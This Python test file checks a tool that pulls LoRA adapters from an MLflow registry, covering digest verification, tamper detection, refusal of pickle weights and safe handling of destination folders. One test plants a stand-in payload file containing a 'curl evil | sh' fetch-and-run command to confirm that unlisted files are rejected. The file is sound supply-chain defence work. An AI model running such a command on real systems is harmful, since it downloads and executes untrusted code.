"""Deployment: pulling a registered adapter by alias/version, integrity checks, merged export."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from selfspec.cli import main as cli
from selfspec.deploy import (
    DestinationError,
    IntegrityError,
    ModelRef,
    RegistryError,
    folder_digests,
    parse_ref,
    pull,
    record_digests,
    verify_adapter,
    write_checksums,
)


def make_adapter(base_dir: Path, dest: Path, seed: int = 1) -> Path:
    """A real PEFT LoRA adapter on the tiny model, with non-zero B so it changes outputs."""
    import torch
    from peft import LoraConfig, get_peft_model
    from transformers import AutoModelForCausalLM, AutoTokenizer

    torch.manual_seed(seed)
    model = get_peft_model(
        AutoModelForCausalLM.from_pretrained(base_dir),
        LoraConfig(r=4, lora_alpha=8, target_modules="all-linear", task_type="CAUSAL_LM"),
    )
    with torch.no_grad():
        for name, p in model.named_parameters():
            if "lora_B" in name:
                p.normal_(0, 0.5)
    model.save_pretrained(dest)
    AutoTokenizer.from_pretrained(base_dir).save_pretrained(dest)
    (dest / "provenance.json").write_text(json.dumps({"base_model": {"source": str(base_dir)}}))
    write_checksums(dest)
    return dest


@pytest.fixture(scope="module")
def adapter_dir(tiny_model_dir, tmp_path_factory) -> Path:
    return make_adapter(tiny_model_dir, tmp_path_factory.mktemp("adapter"))


@pytest.mark.parametrize(
    ("text", "ref"),
    [
        ("biomedical-expert@champion", ModelRef("biomedical-expert", alias="champion")),
        ("models:/biomedical-expert@candidate", ModelRef("biomedical-expert", alias="candidate")),
        ("biomedical-expert/3", ModelRef("biomedical-expert", version="3")),
    ],
)
def test_model_references(text, ref):
    assert parse_ref(text) == ref


@pytest.mark.parametrize("bad", ["biomedical-expert", "x@", "x/latest", "a/b/1"])
def test_bad_model_reference_says_the_expected_form(bad):
    with pytest.raises(RegistryError, match="NAME@ALIAS or NAME/VERSION"):
        parse_ref(bad)


def test_verified_adapter_passes_and_tampering_is_caught(adapter_dir, tmp_path):
    sums = verify_adapter(adapter_dir)
    assert "adapter_model.safetensors" in sums and "adapter_config.json" in sums
    tampered = shutil.copytree(adapter_dir, tmp_path / "t")
    (tampered / "adapter_config.json").write_text("{}")
    with pytest.raises(IntegrityError, match="adapter_config.json: sha256"):
        verify_adapter(tampered)


def test_pickle_weights_are_refused(adapter_dir, tmp_path):
    folder = shutil.copytree(adapter_dir, tmp_path / "p")
    (folder / "adapter_model.bin").write_bytes(b"\x80\x04pickle")
    with pytest.raises(IntegrityError, match="refusing non-safetensors"):
        verify_adapter(folder)


@pytest.mark.parametrize("name", ["adapter_model.BIN", "sub/weights.Pt", "extra.PKL"])
def test_pickle_weights_are_refused_whatever_the_letter_case(adapter_dir, tmp_path, name):
    folder = shutil.copytree(adapter_dir, tmp_path / "p")
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_bytes(b"\x80\x04pickle")
    with pytest.raises(IntegrityError, match=rf"refusing non-safetensors weights \['{name}'\]"):
        verify_adapter(folder, folder_digests(folder))  # even when listed with a matching digest


def test_adapter_without_checksums_is_refused(adapter_dir, tmp_path):
    folder = shutil.copytree(adapter_dir, tmp_path / "c")
    (folder / "checksums.json").unlink()
    with pytest.raises(IntegrityError, match="missing checksums.json"):
        verify_adapter(folder)


@pytest.fixture
def registry(tmp_path, adapter_dir):
    """A real sqlite MLflow store with one run holding the adapter, registered as version 1."""
    import mlflow
    from mlflow import MlflowClient

    uri = f"sqlite:///{tmp_path}/mlflow.db"
    client = MlflowClient(uri)
    exp = client.create_experiment("t", artifact_location=(tmp_path / "artifacts").as_uri())
    run = client.create_run(exp)
    client.log_artifacts(run.info.run_id, str(adapter_dir), artifact_path="adapter")
    client.log_metric(run.info.run_id, "eval/pubmedqa/acc/delta", 0.02)
    client.set_terminated(run.info.run_id)
    client.create_registered_model("bio-expert")
    mv = client.create_model_version("bio-expert", f"runs:/{run.info.run_id}/adapter", run_id=run.info.run_id)
    client.set_registered_model_alias("bio-expert", "candidate", mv.version)
    record_digests(client, "bio-expert", mv.version, adapter_dir)  # as training's register() does
    mlflow.set_tracking_uri(uri)
    return uri


def stored_adapter(registry: str) -> Path:
    """The adapter folder inside the store's artifact root (what an attacker with store access edits)."""
    from mlflow import MlflowClient

    run_id = MlflowClient(registry).get_model_version("bio-expert", "1").run_id
    root = Path(registry.removeprefix("sqlite:///")).parent
    return root / "artifacts" / run_id / "artifacts" / "adapter"


def test_pull_by_alias_and_version_gives_identical_verified_adapter(registry, adapter_dir, tmp_path):
    for ref in ("bio-expert@candidate", "bio-expert/1"):
        pulled = pull(parse_ref(ref), tmp_path / ref.replace("/", "_"), registry)
        assert pulled.version == "1" and pulled.aliases == ["candidate"]
        assert pulled.eval_metrics == {"eval/pubmedqa/acc/delta": 0.02}
        for f in adapter_dir.iterdir():
            assert (pulled.dest / f.name).read_bytes() == f.read_bytes()


@pytest.mark.parametrize(
    ("ref", "message"),
    [
        ("nobody@candidate", "no registered model 'nobody'; registered models: ['bio-expert']"),
        (
            "bio-expert@champion",
            "bio-expert has no alias 'champion'; versions: [1]; aliases: {'candidate': 1}",
        ),  # fmt: skip
        ("bio-expert/7", "bio-expert has no version 7; versions: [1]"),
    ],
)
def test_missing_name_alias_or_version_lists_what_exists(registry, tmp_path, ref, message):
    with pytest.raises(RegistryError) as e:
        pull(parse_ref(ref), tmp_path / "x", registry)
    assert message in str(e.value)


@pytest.mark.integration
def test_pulled_adapter_loads_with_peft_and_merged_export_matches(tiny_model_dir, adapter_dir, tmp_path):
    import torch
    from peft import PeftModel
    from transformers import AutoModelForCausalLM

    from selfspec.deploy import export_merged

    ids = torch.tensor([[5, 17, 42, 99, 7]])
    base = AutoModelForCausalLM.from_pretrained(tiny_model_dir)
    with torch.no_grad():
        base_logits = base(ids).logits
        peft_logits = PeftModel.from_pretrained(base, adapter_dir).eval()(ids).logits
    merged_dir = export_merged(tiny_model_dir, adapter_dir, tmp_path / "merged")
    assert (merged_dir / "model.safetensors").is_file()
    assert not list(merged_dir.glob("adapter_*.safetensors"))
    with torch.no_grad():
        merged_logits = AutoModelForCausalLM.from_pretrained(merged_dir)(ids).logits
    assert not torch.allclose(base_logits, peft_logits, atol=1e-3), "the adapter must change outputs"
    torch.testing.assert_close(merged_logits, peft_logits, atol=1e-4, rtol=1e-4)


def test_registration_records_every_files_digest_in_the_registry(registry, adapter_dir):
    from mlflow import MlflowClient

    tags = MlflowClient(registry).get_model_version("bio-expert", "1").tags
    digests = {k.removeprefix("selfspec.sha256."): v for k, v in tags.items() if k.startswith("selfspec.")}
    assert digests == folder_digests(adapter_dir)
    assert {"adapter_model.safetensors", "adapter_config.json", "checksums.json"} <= set(digests)


def test_tampering_with_the_artifact_and_its_checksums_is_caught_by_the_registry(registry, tmp_path):
    stored = stored_adapter(registry)
    (stored / "adapter_config.json").write_text('{"target_modules": "evil"}')
    write_checksums(stored)  # the artifact's own checksums.json now agrees with the tampered file
    verify_adapter(stored)  # ... so a check against the artifact alone passes
    with pytest.raises(IntegrityError, match="adapter_config.json: sha256 .* does not match the registry's"):
        pull(parse_ref("bio-expert/1"), tmp_path / "dest", registry)
    assert not (tmp_path / "dest").exists() and not list(tmp_path.glob(".dest*")), "nothing half-written"


def test_files_the_registry_does_not_list_are_refused(registry, tmp_path):
    (stored_adapter(registry) / "sub").mkdir()
    (stored_adapter(registry) / "sub/payload.py").write_text("import os; os.system('curl evil | sh')")
    with pytest.raises(
        IntegrityError, match=r"refusing files not listed in the registry's digests: \['sub/payload.py'\]"
    ):
        pull(parse_ref("bio-expert@candidate"), tmp_path / "dest", registry)


def test_a_version_without_recorded_digests_cannot_be_pulled(registry, tmp_path):
    from mlflow import MlflowClient

    client = MlflowClient(registry)
    for key in client.get_model_version("bio-expert", "1").tags:
        client.delete_model_version_tag("bio-expert", "1", key)
    with pytest.raises(IntegrityError, match="bio-expert version 1 has no file digests in the registry"):
        pull(parse_ref("bio-expert/1"), tmp_path / "dest", registry)


def test_pull_refuses_a_folder_with_files_unless_forced(registry, tmp_path, capsys):
    dest = tmp_path / "deploy"
    (dest / "notes").mkdir(parents=True)
    (dest / "notes/thesis.txt").write_text("four years of work")
    assert cli(["pull", "bio-expert@candidate", "--dest", str(dest), "--tracking-uri", registry]) == 1
    err = capsys.readouterr().err
    assert f"selfspec pull: error: --dest {dest}: not empty (1 entries: notes)" in err and "--force" in err
    assert (dest / "notes/thesis.txt").read_text() == "four years of work", "nothing was deleted"
    assert (
        cli(["pull", "bio-expert@candidate", "--dest", str(dest), "--tracking-uri", registry, "--force"]) == 0
    )
    assert not (dest / "notes").exists() and (dest / "adapter_model.safetensors").is_file()
    assert "every file matches the digests recorded in the registry" in capsys.readouterr().out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["artifacts", "deploy", "mlflow.db"], "no leftovers"


def test_pull_into_an_empty_folder_needs_no_force(registry, tmp_path):
    (tmp_path / "empty").mkdir()
    assert (
        pull(parse_ref("bio-expert/1"), tmp_path / "empty", registry).dest / "adapter_config.json"
    ).is_file()


def test_pull_onto_a_file_is_a_one_line_error(registry, tmp_path, capsys):
    (tmp_path / "taken").write_text("not a folder")
    assert (
        cli(["pull", "bio-expert@candidate", "--dest", str(tmp_path / "taken"), "--tracking-uri", registry])
        == 1
    )
    err = capsys.readouterr().err
    assert err == f"selfspec pull: error: --dest {tmp_path / 'taken'}: is a file; give a folder path\n"
    with pytest.raises(DestinationError):
        pull(parse_ref("bio-expert/1"), tmp_path / "taken", registry, force=True)


def test_pull_from_an_unreachable_server_is_a_fast_clear_error(tmp_path, capsys):
    import socket
    import time

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    started = time.monotonic()
    uri = f"http://u:pw@127.0.0.1:{port}"
    assert cli(["pull", "bio-expert@champion", "--dest", str(tmp_path / "d"), "--tracking-uri", uri]) == 1
    assert time.monotonic() - started < 15
    err = capsys.readouterr().err
    assert f"MLflow tracking server http://127.0.0.1:{port} is unreachable" in err
    assert "Traceback" not in err and "pw@" not in err and not (tmp_path / "d").exists()
